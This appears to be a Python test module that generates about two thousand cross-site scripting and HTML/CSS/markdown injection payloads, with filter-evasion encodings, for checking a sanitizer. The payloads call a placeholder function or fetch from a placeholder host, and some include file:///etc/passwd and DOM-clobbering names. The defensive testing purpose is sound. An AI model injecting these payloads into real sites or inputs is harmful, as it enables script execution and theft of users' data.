"""
Two thousand hostile texts: scripts, handlers, links, styles, markdown, broken markup, and their disguises.

Made, not collected: every trick meets every disguise, in a fixed order. `payloads()` is the list; a test counts it.
Each one, if it ran, would call `hostile(...)` or fetch from `hostile.invalid`, so that one judge knows them all.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

HOST = "hostile.invalid"
CALL = "hostile(1)"

_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbeforetoggle", "onscrollend", "onwheel", "onpaste",
)  # fmt: skip
_HOLDERS = (
    '<img src=x {h}="{c}">', "<svg {h}={c}></svg>", '<p {h}="{c}">text</p>', '<a href="/x" {h}="{c}">link</a>',
    '<details open {h}="{c}"><summary>s</summary></details>', '<video {h}="{c}"><source src=x></video>',
    '<input autofocus {h}="{c}">', '<b style="animation:x 1s" {h}="{c}">b</b>', '<body {h}="{c}">',
    '<p title="a" {h}="{c}" class=x>text</p>',
)  # fmt: skip
_SCRIPTS = (
    "<script>{c}</script>", '<script src="https://{host}/x.js"></script>', "<SCRIPT\n>{c}</SCRIPT\n>",
    "<scr<script>ipt>{c}</scr</script>ipt>", '<script type="module">import "https://{host}/x.js"</script>',
    "<svg><script>{c}</script></svg>", "<math><mtext><script>{c}</script></mtext></math>",
    "<template><script>{c}</script></template>", "<noscript><p title='</noscript><script>{c}</script>'>",
    "<style><img src='</style><script>{c}</script>'>", "<textarea><script>{c}</script>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>", '<object data="data:text/html,<script>{c}</script>"></object>',
    '<embed src="https://{host}/x.swf">', '<base href="https://{host}/">', '<form action="https://{host}/"><button>go',
    '<meta http-equiv="refresh" content="0;url=https://{host}/">', "<math href='javascript:{c}'>m</math>",
    '<link rel="stylesheet" href="https://{host}/x.css">', "<!--[if IE]><script>{c}</script><![endif]-->",
    "<![CDATA[<script>{c}</script>]]>", "<?xml-stylesheet href='javascript:{c}'?>", "--><script>{c}</script>",
    '"><script>{c}</script>', "'-{c}-'", "`-{c}-`", "${{{c}}}", "{{{{constructor.constructor('{c}')()}}}}",
    "{{% debug %}}", "{{{{ request.user }}}}", "</script><script>{c}</script>",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
)  # fmt: skip
_HREFS = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java\nscript:{c}",
    "javascript&colon;{c}",
    "&#106;avascript:{c}", "\x01javascript:{c}", "vbscript:{c}", "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "//{host}/x", "\\\\{host}\\x", "/\\{host}/x", "https:{host}", "http://{host}/x",
    "https://user:pass@{host}/", "file:///etc/passwd", "blob:https://{host}/1", "view-source:javascript:{c}",
    "jar:https://{host}!/", "feed:javascript:{c}", "tel:+44;javascript:{c}", "mailto:a@b.c?bcc=x@{host}",
)  # fmt: skip
_LINKS = (
    '<a href="{u}">link</a>', "<a href='{u}'>link</a>", '<a xlink:href="{u}">link</a>', "[link]({u})", "[link](<{u}>)",
    "![picture]({u})", "<{u}>", "[link][1]\n\n[1]: {u}", '<img src="{u}">', '<area href="{u}">',
    '<form><button formaction="{u}">go</button></form>',
)  # fmt: skip
_STYLES = (
    "background:url(https://{host}/x)", "background-image:image-set('https://{host}/x' 1x)", "behavior:url(#x)",
    "width:expression({c})", "-moz-binding:url(https://{host}/x)", "position:fixed;inset:0;z-index:99999",
    "@import 'https://{host}/x.css';", "list-style:url(https://{host}/x)", "content:url(https://{host}/x)",
    "filter:url(https://{host}/x)", "cursor:url(https://{host}/x),auto", "--x:url(https://{host}/x)",
)  # fmt: skip
_STYLED = (
    '<p style="{s}">text</p>', "<style>*{{{s}}}</style>", "red;{s}", "red}}*{{{s}}}",
    '<svg><style>*{{{s}}}</style></svg>',
    '<b style="color:red;{s}">b</b>', "{s}",
)  # fmt: skip
_CLOBBERS = (
    '<a id="{n}">a</a>', '<form name="{n}"><input name="x"></form>', '<img name="{n}">',
    '<p id="root" class="{n}">p</p>',
)  # fmt: skip
_NAMES = ("root", "body", "page-document", "location", "cookie", "getElementById", "__proto__", "head")


def _double(text: str) -> str:
    return text.replace("<", "<<")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;")


def _nul(text: str) -> str:
    return text.replace("script", "scr\x00ipt").replace("on", "o\x00n", 1)


def _slashes(text: str) -> str:
    return text.replace(" ", "/")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e")


def _unclosed(text: str) -> str:
    return text.rstrip(">")


def _nested(text: str) -> str:
    return f"<p><b><i>{text}</i></b></p>"


def _plain(text: str) -> str:
    return text


def _upper(text: str) -> str:
    return text.replace("<a", "<A").replace("<img", "<IMG").replace("<p", "<P").replace("href", "HREF")


_DISGUISES: tuple[Callable[[str], str], ...] = (
    _plain, _upper, _nested, _unclosed, _slashes, _nul, _double, _entities, _wide,
)  # fmt: skip


def _tricks() -> Iterator[str]:
    for script in _SCRIPTS:
        yield script.format(c=CALL, host=HOST)
    for holder in _HOLDERS:
        for handler in _HANDLERS:
            yield holder.format(h=handler, c=CALL)
    for link in _LINKS:
        for href in _HREFS:
            yield link.format(u=href.format(c=CALL, host=HOST))
    for styled in _STYLED:
        for style in _STYLES:
            yield styled.format(s=style.format(c=CALL, host=HOST))
    for clobber in _CLOBBERS:
        for name in _NAMES:
            yield clobber.format(n=name)


def payloads() -> list[str]:
    """Every trick in every disguise, each text once, in a fixed order; the plain tricks first."""
    tricks = list(_tricks())
    return list(dict.fromkeys(disguise(trick) for disguise in _DISGUISES for trick in tricks))
